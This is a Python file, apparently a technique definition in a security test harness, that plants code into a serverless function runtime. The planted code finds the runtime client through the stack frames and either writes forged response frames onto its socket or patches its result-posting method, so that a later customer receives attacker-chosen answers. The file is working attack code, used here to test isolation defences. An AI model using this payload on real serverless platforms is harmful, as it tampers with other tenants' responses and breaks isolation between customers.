"""Sends an additional answer, meant for the next customer."""

from __future__ import annotations

from dayfly.lab.gauntlet.evidence import WrongAnswers
from dayfly.lab.gauntlet.technique import Technique

PLANT = """
frame = sys._getframe()
while "lambda_runtime_client" not in frame.f_locals:
    frame = frame.f_back
client = frame.f_locals["lambda_runtime_client"]
if hasattr(client, "_work"):
    import struct
    body = b'{"mark": "mine"}'
    head = struct.pack("!16sBIQ", client._nonce, 1, 16, len(body)) + b"application/json"
    client._work.socket.sendall((head + body) * 4)
else:
    real = client.post_invocation_result
    client.post_invocation_result = lambda invoke_id, data, *rest: real(invoke_id, '{"mark": "mine"}', *rest)
"""

TECHNIQUE = Technique(
    level="L2",
    attack=("T1557", "T1565.002"),
    family="D5",
    must_fail_to="answer a later customer",
    plant=PLANT,
    evidence=WrongAnswers(),
    ends_window=True,
    process="may reach",
)
